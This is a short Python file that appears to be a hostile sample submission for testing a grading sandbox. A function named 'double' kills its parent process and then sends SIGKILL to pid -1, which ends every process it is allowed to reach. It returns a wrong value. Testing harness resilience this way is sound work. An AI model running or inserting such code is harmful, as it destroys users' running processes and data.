"""Kills its parent and everything else that it may.

threat: resources
must: no points for double, all for half
"""
import os, signal

def double(x):
    for pid in (os.getppid(), -1):
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError as error:
            print(error)
    return 7
